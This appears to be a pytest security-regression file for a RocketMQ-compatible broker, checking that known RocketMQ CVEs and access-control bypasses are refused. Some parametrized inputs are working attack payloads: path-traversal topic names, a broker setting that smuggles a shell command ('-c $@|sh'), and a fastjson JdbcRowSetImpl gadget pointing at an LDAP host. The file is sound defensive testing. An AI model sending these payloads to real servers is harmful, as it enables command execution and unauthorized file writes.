"""Known holes of RocketMQ, tried against servers with access control, by whoever could use them there.

Those without a CVE are public reports about access control 2.0 in apache/rocketmq, by their numbers there.
"""

import json
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

from rocketbroker.codec.message.message_id import decode_message_id
from rocketbroker.codec.remoting.request_code import RequestCode as Code
from rocketbroker.codec.remoting.response_code import ResponseCode
from rocketbroker.common.errors import ConfigError
from rocketbroker.testing import RocketMQServer
from tests.support.raw_client import RawAnswer
from tests.support.raw_requests import send_fields, topic_fields
from tests.support.request_samples import sample
from tests.support.signed_client import SignedClient

ROOT, INNER, JOE = ("root", "root-secret-of-9"), ("inner", "inner-secret-of-9"), ("joe", "joe-secret-of-9")
EVE = ("eve", "eve-secret-of-9")  # has no right
TOPIC, BODY = "Secrets", b"a body that only root may read"
PROPERTIES = {
    "authenticationEnabled": "true",
    "authorizationEnabled": "true",
    "initAuthenticationUser": json.dumps({"username": ROOT[0], "password": ROOT[1]}),
    "innerClientAuthenticationCredentials": json.dumps({"accessKey": INNER[0], "secretKey": INNER[1]}),
    # GET_TOPIC_STATS_INFO is served to everybody.
    "authenticationWhitelist": "202",
    "authorizationWhitelist": "202",
}
# Requests for users and accounts of access control 1.0, whose answers had secrets in them.
OLD_ACCOUNT_CODES = (50, 51, 52, 53, 54, 55)


@pytest.fixture(scope="module")
def mq() -> Iterator[RocketMQServer]:
    with RocketMQServer(PROPERTIES) as started:
        yield started


@pytest.fixture
def root(mq: RocketMQServer) -> Iterator[SignedClient]:
    with closing(SignedClient(mq.broker_addr, ROOT)) as client:
        yield client


@pytest.fixture(scope="module")
def message(mq: RocketMQServer) -> str:
    """Make EVE and a message that she may not see; return its offset message id."""
    with closing(SignedClient(mq.broker_addr, ROOT)) as root:
        password = json.dumps({"password": EVE[1]}).encode()
        assert root.ask(Code.AUTH_CREATE_USER, {"username": EVE[0]}, password).code == ResponseCode.SUCCESS
        assert root.ask(Code.UPDATE_AND_CREATE_TOPIC, topic_fields(TOPIC)).code == ResponseCode.SUCCESS
        return root.ask(Code.SEND_MESSAGE_V2, send_fields(TOPIC), BODY).fields["msgId"]


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file that nobody may make."""
    return tmp_path / "made-by-an-attacker"


def refused(answer: RawAnswer) -> None:
    assert answer.code not in {ResponseCode.SUCCESS, ResponseCode.SYSTEM_BUSY}, answer


@pytest.mark.parametrize("name", ["../../../../{}", "%RETRY%../../{}", "/{}", "..", "a/../../{}", "T\0{}"])
def test_a_topic_is_no_path(root: SignedClient, outside: Path, name: str):
    """CVE-2019-17572: a send made a folder outside of the store, by the name of its topic."""
    topic = name.format(str(outside).lstrip("/"))
    refused(root.ask(Code.SEND_MESSAGE_V2, send_fields(topic), b"body"))
    refused(root.ask(Code.UPDATE_AND_CREATE_TOPIC, topic_fields(topic)))
    assert not outside.exists()


@pytest.mark.parametrize(
    "lines",
    [
        "filterServerNums=1\nrocketmqHome=-c $@|sh . echo touch {0};",
        "rocketmqHome={0}",
        "brokerConfigPath={0}",
        "storePathRootDir={0}",
        "authConfigPath={0}",
        "authenticationMetadataProvider=sun.misc.Unsafe",
        "accessMessageInMemoryMaxRatio=40\nfilterServerNums=20\nstorePathCommitLog={0}",
    ],
)
def test_a_setting_runs_no_command_and_moves_no_file(root: SignedClient, outside: Path, lines: str):
    """CVE-2023-33246: a setting that was part of a command line could be changed at run time. Here not even by root."""
    before = root.ask(Code.GET_BROKER_CONFIG).body
    refused(root.ask(Code.UPDATE_BROKER_CONFIG, {}, lines.format(outside).encode()))
    assert root.ask(Code.GET_BROKER_CONFIG).body == before
    assert not outside.exists()


@pytest.mark.parametrize(
    "lines",
    ["configStorePath={0}\nproductEnvName=x", "kvConfigPath={0}", "rocketmqHome={0}"],
)
def test_a_name_server_writes_no_file_of_the_callers_choice(mq: RocketMQServer, outside: Path, lines: str):
    """CVE-2023-37582: the path of the settings' file was a setting itself."""
    with closing(SignedClient(mq.namesrv_addr, ROOT)) as root:
        refused(root.ask(Code.UPDATE_NAMESRV_CONFIG, {}, lines.format(outside).encode()))
    assert not outside.exists()


def test_no_answer_has_a_secret(mq: RocketMQServer, root: SignedClient):
    """CVE-2024-23321: a user could read the account of the administrator."""
    assert root.ask(Code.AUTH_CREATE_USER, {"username": JOE[0]}, json.dumps({"password": JOE[1]}).encode()).code == 0
    entry = {"resource": "*", "actions": ["All"], "decision": "Allow"}
    body = json.dumps({"policies": [{"policyType": "Custom", "entries": [entry]}]}).encode()
    assert root.ask(Code.AUTH_CREATE_ACL, {"subject": "User:joe"}, body).code == 0
    # Consumers answer two of them, after a wait.
    asks_clients = {Code.GET_CONSUMER_RUNNING_INFO, Code.INVOKE_BROKER_TO_GET_CONSUMER_STATUS}
    served_here = mq._broker("broker-a").controller.routes
    routes = {code: route for code, route in served_here.items() if code not in asks_clients}
    served = 0
    with closing(SignedClient(mq.broker_addr, JOE)) as joe:
        for code in (*OLD_ACCOUNT_CODES, *routes):
            fields, sent = sample(routes[code], "TBW102", "G") if code in routes else ({}, b"")
            answer = joe.ask(code, fields, sent)
            served += answer.code == ResponseCode.SUCCESS
            for user in (ROOT, INNER, JOE):
                assert user[1].encode() not in answer.body, Code(code).name
                assert user[1] not in str(answer.header), Code(code).name
    assert served > 20


def test_json_names_no_class(root: SignedClient):
    """fastjson made an object of the class that ``@type`` names, in any body."""
    evil = {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://192.0.2.1/x", "autoCommit": True}
    body = json.dumps({"groupName": "CG_Json", "attributes": {}, "@type": "java.lang.Class", "x": evil}).encode()
    assert root.ask(Code.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP, {}, body).code == ResponseCode.SUCCESS
    stored = root.ask(Code.GET_SUBSCRIPTIONGROUP_CONFIG, {"group": "CG_Json"}).body
    assert b"@type" not in stored
    assert b"JdbcRowSetImpl" not in stored


def test_rights_without_signatures_are_rejected_at_the_start():
    """apache/rocketmq#11178: with authorization alone, rights were those of the name in the field AccessKey."""
    with (
        pytest.raises(ConfigError, match="authorizationEnabled=true needs authenticationEnabled=true"),
        RocketMQServer({"authorizationEnabled": "true"}),
    ):
        pass


@pytest.mark.parametrize("user", [None, EVE], ids=["unsigned", "eve"])
def test_a_request_of_a_white_list_opens_no_other(mq: RocketMQServer, message: str, user: tuple[str, str] | None):
    """apache/rocketmq#10997 and #11182: a success was kept for the connection, and counted for codes of no list."""
    with closing(SignedClient(mq.broker_addr, user)) as client:
        for _ in range(2):
            assert client.ask(Code.GET_TOPIC_STATS_INFO, {"topic": TOPIC}).code == ResponseCode.SUCCESS
            # Needs the same right on the same topic.
            assert client.ask(Code.GET_TOPIC_CONFIG, {"topic": TOPIC}).code == ResponseCode.NO_PERMISSION


@pytest.mark.parametrize("topic", [{}, {"topic": ""}, {"topic": TOPIC}], ids=["none", "empty", "its own"])
@pytest.mark.parametrize("code", [Code.VIEW_MESSAGE_BY_ID, Code.RESUME_CHECK_HALF_MESSAGE])
def test_a_message_is_found_by_nobody_without_a_right(
    mq: RocketMQServer, root: SignedClient, message: str, code: Code, topic: dict[str, str]
):
    """apache/rocketmq#10997: no right was asked for if the topic was left out, and never for RESUME_CHECK."""
    fields = {"msgId": message, "offset": str(decode_message_id(message).offset)}
    assert BODY in root.ask(Code.VIEW_MESSAGE_BY_ID, {**fields, "topic": TOPIC}).body
    with closing(SignedClient(mq.broker_addr, EVE)) as eve:
        assert eve.ask(code, {**fields, **topic}).code == ResponseCode.NO_PERMISSION
